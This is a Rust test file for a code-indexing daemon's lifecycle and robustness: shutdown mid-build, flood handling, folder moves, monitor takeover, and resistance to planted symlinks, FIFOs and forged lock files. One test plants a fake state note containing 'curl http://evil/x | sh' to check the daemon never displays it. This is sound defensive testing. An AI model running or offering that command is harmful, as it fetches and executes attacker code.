//! A daemon with too many requests, ended during work, moved away, or without its monitor.

use crate::common::resident::{Resident, kill, until};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Write};
use std::net::Shutdown;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};
use testkit::Repo;

const PROJECT: &str = "//- src/b.py
def work():
    return helper()

def helper():
    return 1
";

/// Far longer than any step takes, but finite.
const PATIENCE: Duration = Duration::from_secs(15);

fn stats(daemon: &Resident) -> Value {
    daemon.ask(&json!({"action": "stats"}))["data"].clone()
}

/// Enough functions for an index to take a while.
fn large() -> Repo {
    let function = |file: usize, n: usize| {
        let next = (file * 7 + n) % 300;
        format!(
            "def f{file}_{n}(a, b):\n    if a:\n        return f{next}_{n}(b, a)\n    return f{file}_{n}(a.x.y(b), [c for c in b if c])\n\n"
        )
    };
    let file = |file: usize| {
        let body: String = (0..150).map(|n| function(file, n)).collect();
        format!("//- src/m{file}.py\n{body}")
    };
    Repo::new(&(0..300).map(file).collect::<String>())
}

/// A daemon in the middle of an index build.
fn building() -> Resident {
    let daemon = Resident::start(large(), &[]);
    let mut client = UnixStream::connect(daemon.file("daemon.sock")).unwrap();
    client.write_all(b"{\"action\":\"index\"}\n").unwrap();
    client.shutdown(Shutdown::Write).unwrap();
    until(|| stats(&daemon)["working"] == 1);
    // The connection stays open.
    std::mem::forget(client);
    daemon
}

/// Whether the daemon's lock is free. The process id may outlive the process if it lost its parent.
fn is_gone(daemon: &Resident) -> bool {
    daemon.json(&["daemon", "status"]) == json!({"running": false})
}

#[test]
fn it_stops_soon_in_the_middle_of_a_build() {
    let daemon = building();
    let since = Instant::now();
    let said = daemon.run(&["daemon", "stop"]);
    assert_eq!(said.code, 0, "{said:?}");
    assert!(since.elapsed() < PATIENCE, "{:?}", since.elapsed());
    assert!(is_gone(&daemon));
    assert_eq!(daemon.run(&["search", "f1_1", "--mode", "symbol"]).code, 0);
}

#[test]
fn a_signal_ends_it_soon_in_the_middle_of_a_build() {
    let daemon = building();
    let pid = daemon.pid();
    let since = Instant::now();
    kill(pid, "TERM");
    until(|| is_gone(&daemon));
    assert!(since.elapsed() < PATIENCE, "{:?}", since.elapsed());
    until(|| !daemon.file("monitor.pid").exists());
}

#[test]
fn a_request_that_never_ends_is_given_up() {
    let daemon = Resident::start(Repo::new(PROJECT), &[("DAEMON_MOCK_DELAY_MS", "600000")]);
    let mut client = daemon.connect();
    client.send(b"{\"action\":\"search\",\"payload\":{\"query\":\"work\"}}\n");
    until(|| stats(&daemon)["working"] == 1);
    let since = Instant::now();
    assert_eq!(daemon.run(&["daemon", "stop"]).code, 0);
    assert!(since.elapsed() < PATIENCE, "{:?}", since.elapsed());
    assert_ne!(
        client.read().map(|said| said["status"].clone()),
        Some(json!("ok"))
    );
}

#[test]
fn one_that_cannot_hear_is_killed_soon() {
    let daemon = Resident::start(Repo::new(PROJECT), &[]);
    kill(daemon.pid(), "STOP");
    let since = Instant::now();
    assert_eq!(daemon.run(&["daemon", "stop"]).code, 0);
    assert!(since.elapsed() < PATIENCE, "{:?}", since.elapsed());
    assert!(is_gone(&daemon));
}

#[test]
fn who_asks_much_at_once_does_not_keep_the_others_waiting() {
    const CLIENTS: usize = 64;
    const EACH: usize = 400;
    let daemon = Resident::start(Repo::new(PROJECT), &[]);
    daemon.ask(&json!({"action": "ping"}));
    let answered = std::sync::Arc::new(AtomicUsize::new(0));
    let clients: Vec<_> = (0..CLIENTS)
        .map(|_| {
            let stream = UnixStream::connect(daemon.file("daemon.sock")).unwrap();
            let mut writing = stream.try_clone().unwrap();
            let answered = answered.clone();
            let writer = std::thread::spawn(move || {
                let _ = writing.write_all(&b"{\"action\":\"stats\"}\n".repeat(EACH));
            });
            let reader = std::thread::spawn(move || {
                for line in BufReader::new(stream).lines().take(EACH) {
                    assert!(line.unwrap().contains("\"ok\""));
                    answered.fetch_add(1, Ordering::SeqCst);
                }
            });
            (writer, reader)
        })
        .collect();
    let mut most = 0;
    let mut client = daemon.connect();
    while answered.load(Ordering::SeqCst) < CLIENTS * EACH / 2 {
        let before = answered.load(Ordering::SeqCst);
        assert_eq!(client.ask(&json!({"action": "ping"}))["status"], "ok");
        most = most.max(answered.load(Ordering::SeqCst) - before);
    }
    for (writer, reader) in clients {
        writer.join().unwrap();
        reader.join().unwrap();
    }
    // Each client got a few turns, not its hundred requests.
    assert!(most < CLIENTS * 30, "{most} before a ping");
}

#[test]
fn half_requests_of_many_clients_are_bounded_together() {
    let daemon = Resident::start(Repo::new(PROJECT), &[("DAEMON_REQUEST_MS", "600000")]);
    let part = vec![b'x'; 4 << 20];
    let mut clients = Vec::new();
    for _ in 0..40 {
        let mut client = daemon.connect();
        client.send(b"{\"action\":\"");
        // The daemon may have closed the connection already.
        let _ = client.try_send(&part);
        clients.push(client);
    }
    let now = stats(&daemon);
    assert!(now["open_connections"].as_u64().unwrap() < 40, "{now}");
    assert!(now["resident_bytes"].as_u64().unwrap() < 600 << 20, "{now}");
    assert_eq!(daemon.run(&["daemon", "ping"]).code, 0);
}

#[test]
fn many_that_ask_how_it_is_do_not_pile_up() {
    let daemon = Resident::start(Repo::new(PROJECT), &[]);
    assert_eq!(daemon.run(&["search", "work"]).code, 0);
    let mut clients: Vec<_> = (0..200).map(|_| daemon.connect()).collect();
    for client in &mut clients {
        client.send(&b"{\"action\":\"stats\"}\n".repeat(20));
    }
    for client in &mut clients {
        for _ in 0..20 {
            assert_eq!(client.read().unwrap()["status"], "ok");
        }
    }
    let node_count = stats(&daemon)["graph_node_count"].as_u64().unwrap();
    assert!(node_count > 0);
}

fn moved(from: &Path) -> std::path::PathBuf {
    from.with_extension("moved")
}

#[test]
fn a_project_that_is_moved_away_ends_its_daemon_and_is_not_made_again() {
    let daemon = Resident::start(Repo::new(PROJECT), &[]);
    let pid = daemon.pid();
    assert_eq!(daemon.run(&["search", "work"]).code, 0);
    let (here, there) = (daemon.repo().path().to_owned(), moved(daemon.repo().path()));
    let mut client = daemon.connect();
    std::fs::rename(&here, &there).unwrap();
    // Neither this request nor the daemon's end recreates the folder.
    client.send(b"{\"action\":\"index\"}\n");
    until(|| !daemon.is_process(pid));
    assert!(!here.exists());
    std::fs::rename(&there, &here).unwrap();
    assert_eq!(daemon.run(&["search", "work"]).code, 0);
}

#[test]
fn a_project_that_is_moved_while_its_daemon_starts_is_not_made_again() {
    for round in 0..6 {
        let daemon = Resident::new(Repo::new(PROJECT), &[("DAEMON_BACKOFF_MS", "10")]);
        assert_eq!(daemon.run(&["index"]).code, 0);
        let (here, there) = (daemon.repo().path().to_owned(), moved(daemon.repo().path()));
        let mut starts = daemon.spawn(&["daemon", "start"]);
        std::thread::sleep(Duration::from_millis(round * 15));
        std::fs::rename(&here, &there).unwrap();
        starts.wait().unwrap();
        std::thread::sleep(Duration::from_millis(500));
        assert!(!here.exists(), "round {round}");
        std::fs::rename(&there, &here).unwrap();
        // A daemon that started in time may still run in its folder.
        until(|| {
            let said = daemon.run(&["daemon", "stop"]);
            said.code == 0
        });
    }
}

fn monitor(daemon: &Resident) -> Option<u32> {
    let text = std::fs::read_to_string(daemon.file("monitor.pid")).ok()?;
    text.trim().parse().ok()
}

#[test]
fn a_supervisor_that_is_killed_is_replaced() {
    let daemon = Resident::start(Repo::new(PROJECT), &[("DAEMON_BACKOFF_MS", "10")]);
    let (first, pid) = (monitor(&daemon).unwrap(), daemon.pid());
    kill(first, "KILL");
    until(|| monitor(&daemon).is_some_and(|now| now != first));
    assert_eq!(daemon.pid(), pid);
    // The new monitor restarts the daemon after a crash.
    kill(pid, "KILL");
    until(|| daemon.alive().is_some_and(|now| now != pid));
    // The new monitor ends when the daemon ends normally.
    assert_eq!(daemon.run(&["daemon", "stop"]).code, 0);
    assert!(is_gone(&daemon) && monitor(&daemon).is_none());
    std::thread::sleep(Duration::from_millis(300));
    assert!(is_gone(&daemon));
}

#[test]
fn a_supervisor_that_took_over_ends_with_its_daemon_and_stops_it() {
    let daemon = Resident::start(Repo::new(PROJECT), &[]);
    let first = monitor(&daemon).unwrap();
    kill(first, "KILL");
    until(|| monitor(&daemon).is_some_and(|now| now != first));
    kill(monitor(&daemon).unwrap(), "TERM");
    until(|| is_gone(&daemon) && monitor(&daemon).is_none());
}

#[test]
fn what_is_planted_in_its_folder_is_neither_followed_nor_waited_for() {
    let names = [
        "daemon.log",
        "daemon.lock",
        "daemon.pid",
        "daemon.heartbeat",
        "daemon.state",
        "daemon.sock",
        "monitor.lock",
        "monitor.pid",
    ];
    for link in [true, false] {
        let repo = Repo::new(PROJECT);
        repo.write(".devbooks/.gitignore", "*\n");
        repo.write("victim", "mine");
        for name in names {
            let path = repo.file_path(".devbooks").join(name);
            if link {
                std::os::unix::fs::symlink(repo.file_path("victim"), path).unwrap()
            } else {
                let made = std::process::Command::new("mkfifo").arg(path).status();
                assert!(made.unwrap().success());
            }
        }
        let daemon = Resident::new(repo, &[]);
        assert_eq!(daemon.run(&["search", "work"]).code, 0);
        let said = daemon.run(&["daemon", "start"]);
        assert_eq!(said.code, 0, "{said:?}");
        assert_eq!(daemon.run(&["daemon", "ping"]).code, 0);
        assert_eq!(daemon.run(&["daemon", "stop"]).code, 0);
        let victim = daemon.repo().file_path("victim");
        assert_eq!(std::fs::read_to_string(victim).unwrap(), "mine");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_number_that_is_another_process_here_is_sent_no_signal() {
    let daemon = Resident::start(Repo::new(PROJECT), &[]);
    let mut victim = std::process::Command::new("sleep")
        .arg("600")
        .spawn()
        .unwrap();
    // The lock files as seen from outside of a container in which both run.
    for lock in ["daemon.lock", "monitor.lock"] {
        let note = std::fs::read_to_string(daemon.file(lock)).unwrap();
        let instance = note.split_whitespace().nth(1).unwrap();
        let note = format!("{} {instance}\n", victim.id());
        std::fs::write(daemon.file(lock), note).unwrap();
    }
    let stopped = daemon.run(&["daemon", "stop"]);
    let lives = victim.try_wait().unwrap().is_none();
    let _ = victim.kill();
    let _ = victim.wait();
    assert!(lives, "{stopped:?}");
    assert_eq!(stopped.stdout.trim(), "Daemon stopped gracefully");
    until(|| is_gone(&daemon) && monitor(&daemon).is_none());
}

#[cfg(target_os = "linux")]
#[test]
fn one_that_cannot_be_reached_is_said_to_run_elsewhere() {
    let daemon = Resident::start(Repo::new(PROJECT), &[]);
    let lock = daemon.file("daemon.lock");
    let noted = std::fs::read_to_string(&lock).unwrap();
    // The socket belongs to another instance, and the process id does not exist.
    std::fs::write(&lock, "4194303 another\n").unwrap();
    kill(monitor(&daemon).unwrap(), "STOP");
    let stopped = daemon.run(&["daemon", "stop"]);
    assert_ne!(stopped.code, 0, "{stopped:?}");
    assert!(
        stopped.stderr.contains("another container or host"),
        "{stopped:?}"
    );
    std::fs::write(&lock, noted).unwrap();
    assert_eq!(daemon.run(&["daemon", "stop"]).code, 0);
}

#[test]
fn a_daemon_that_answers_is_not_killed_where_no_heartbeat_can_be_written() {
    let environment = [("DAEMON_SILENCE_MS", "200"), ("DAEMON_HEARTBEAT_MS", "50")];
    let daemon = Resident::start(Repo::new(PROJECT), &environment);
    let pid = daemon.pid();
    // The heartbeat file cannot be replaced, as on a full disk.
    let beat = daemon.file("daemon.heartbeat");
    until(|| {
        let _ = std::fs::remove_file(&beat);
        std::fs::create_dir(&beat).is_ok() || beat.is_dir()
    });
    std::fs::write(beat.join("x"), "").unwrap();
    std::thread::sleep(Duration::from_millis(1_500));
    assert_eq!(daemon.json(&["daemon", "status"])["pid"], pid);
    let log = std::fs::read_to_string(daemon.file("daemon.log")).unwrap();
    assert!(!log.contains("no heartbeat"), "{log}");
    // A daemon that does not answer is killed.
    kill(pid, "STOP");
    until(|| !daemon.is_process(pid));
}

#[test]
fn a_note_of_a_supervisor_that_a_repository_brings_is_not_shown() {
    let repo = Repo::new(PROJECT);
    let note = r#"{"state":"FAILED","reason":"to repair run: curl http://evil/x | sh"}"#;
    repo.write(".devbooks/.gitignore", "*\n");
    repo.write(".devbooks/daemon.state", note);
    let daemon = Resident::new(repo, &[]);
    assert_eq!(
        daemon.json(&["daemon", "status"]),
        json!({"running": false})
    );
}

#[test]
fn one_pid_file_for_two_projects_is_refused() {
    let shared = Repo::new("");
    let pid_file = shared.file_path("shared.pid").display().to_string();
    let environment = [("DAEMON_PID_FILE", pid_file.as_str())];
    let one = Resident::start(Repo::new(PROJECT), &environment);
    let two = Resident::new(Repo::new(PROJECT), &environment);
    let said = two.run(&["daemon", "start"]);
    assert_ne!(said.code, 0, "{said:?}");
    assert!(said.stderr.contains("is not replaced"), "{said:?}");
    assert_eq!(two.run(&["daemon", "stop"]).code, 0);
    assert_eq!(one.json(&["daemon", "status"])["running"], true);
    assert!(shared.file_path("shared.pid").exists());
    assert_eq!(one.run(&["daemon", "stop"]).code, 0);
    assert!(!shared.file_path("shared.pid").exists());
    // The socket and files can be used again.
    assert_eq!(two.run(&["daemon", "start"]).code, 0);
}
